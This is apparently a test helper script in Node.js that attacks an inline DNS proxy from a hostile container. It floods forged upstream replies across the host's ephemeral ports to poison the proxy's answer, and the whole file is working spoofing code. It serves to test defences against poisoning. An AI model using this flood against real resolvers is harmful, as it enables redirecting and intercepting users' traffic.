// A hostile container poisoning the inline proxy's upstream answers, run in its namespace:
//
//   ip netns exec NS node forge-answers.mjs '{"gateway":…,"client":…,"name":…,"id":…,
//     "forgedSource":…,"targets":[…],"ports":[low,high],"answer":…,"floodMs":…}'
//
// It asks the proxy (gateway:53, from its own address `client`) for `name` with query ID
// `id`, and at the same moment floods forged replies from `forgedSource`:53 (the upstream
// resolver's address, which the test put on this namespace's eth0: a real container does
// the same with CAP_NET_RAW and a raw socket) to every address in `targets` (the host's)
// and every port from ports[0] to ports[1] (the host's ephemeral range, which the test
// narrowed): the client's own ID and question, answered with `answer`. An upstream query
// forwarded as the client sent it (same ID, same letter case) from a port in that range
// takes the first forged reply that reaches its socket.
//
// Prints one JSON line: {"sent":N,"tries":N,"answer":[addresses the proxy answered],"rcode":…}.
import { createSocket } from 'node:dgram';
import dnsPacket from 'dns-packet';

const config = JSON.parse(process.argv[2]);
const question = { name: config.name, type: 'A', class: 'IN' };
const query = dnsPacket.encode({ id: config.id, type: 'query', flags: dnsPacket.RECURSION_DESIRED, questions: [question] });
const forged = dnsPacket.encode({
  id: config.id,
  type: 'response',
  flags: dnsPacket.RECURSION_DESIRED | dnsPacket.RECURSION_AVAILABLE,
  questions: [question],
  answers: [{ name: config.name, type: 'A', class: 'IN', ttl: 3600, data: config.answer }],
});

const bind = (socket, address, port) =>
  new Promise((resolve, reject) => {
    socket.once('error', reject);
    socket.bind(port, address, () => resolve());
  });
const asker = createSocket('udp4');
const forger = createSocket('udp4');
await bind(asker, config.client, 0);
await bind(forger, config.forgedSource, 53);
forger.on('error', () => undefined);

let sent = 0;
let flooding = true;
let tries = 0;
// A stub resolver asks again when no answer comes (dig: every 2 s, 3 tries); the same query, the same ID.
const ask = () => {
  tries++;
  asker.send(query, 53, config.gateway);
};
const reply = new Promise((resolve) => {
  const retry = setInterval(() => (tries < 3 ? ask() : undefined), 2_000);
  const timer = setTimeout(() => done(undefined), config.replyTimeoutMs ?? 7_000);
  const done = (bytes) => {
    clearTimeout(timer);
    clearInterval(retry);
    resolve(bytes);
  };
  asker.once('message', done);
});
ask();

// `roundsPerMs` rounds over every target and port each millisecond, until the reply or floodMs: a
// rate the host drops without its backlog overflowing, so the flood poisons or fails on its merits
// rather than by starving everyone's packets (that would be another attack).
const until = Date.now() + config.floodMs;
const round = () => {
  for (const target of config.targets) {
    for (let port = config.ports[0]; port <= config.ports[1]; port++) {
      forger.send(forged, port, target, (err) => {
        if (!err) sent++;
      });
    }
  }
};
void reply.then(() => (flooding = false));
while (flooding && Date.now() < until) {
  for (let i = 0; i < (config.roundsPerMs ?? 1); i++) round();
  await new Promise((resolve) => setTimeout(resolve, 1));
}
const bytes = await reply;
const decoded = bytes ? dnsPacket.decode(bytes) : undefined;
process.stdout.write(
  `${JSON.stringify({ sent, tries, answer: decoded ? (decoded.answers ?? []).map((a) => a.data) : null, rcode: decoded ? decoded.rcode : null })}\n`,
);
asker.close();
forger.close();
